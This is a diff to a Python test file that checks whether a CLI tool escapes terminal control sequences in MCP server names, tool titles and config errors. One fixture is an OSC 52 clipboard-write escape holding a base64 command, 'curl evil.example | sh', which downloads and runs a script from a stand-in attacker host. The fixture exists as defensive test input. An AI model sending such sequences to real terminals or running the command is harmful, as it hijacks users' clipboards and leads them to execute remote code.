@@ -3,23 +3,17 @@
 from __future__ import annotations
 
 import subprocess
-import sys
 from pathlib import Path
 
 from tests.mcp_client.conftest import fake_entry, write_servers
+from tests.support.toolbelt_cli import toolbelt
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"  # clipboard := "curl evil.example | sh"
 SHOWN_OSC52 = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07"
 
 
 def _toolbelt(*args: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [sys.executable, "-m", "toolbelt.cli.main", *args],
-        capture_output=True,
-        text=True,
-        timeout=120,
-        stdin=subprocess.DEVNULL,
-    )
+    return toolbelt(*args, timeout=120)
 
 
 def test_a_servers_tool_title_is_listed_escaped(tmp_path: Path, mark: str) -> None:
@@ -59,6 +53,7 @@ def test_a_config_error_is_shown_escaped(tmp_path: Path) -> None:
     write_servers(workspace / ".mcp.json", {LONG_ESCAPED_NAME: {"command": "a"}})
     for args in (("tools",), ("call", "ls", "{}"), ("mcp-servers",)):
         result = _toolbelt(*args, "--root", str(workspace), "--trust-workspace")
-        assert result.returncode == 2, (args, result.stderr)
+        # the broken file is skipped with a warning; the built-in tools still work
+        assert result.returncode == 0, (args, result.stderr)
         assert "\x1b" not in result.stderr
         assert f"`mcpServers.{'x' * 60}{SHOWN_OSC52}\\x1b[2J`: a server name" in result.stderr
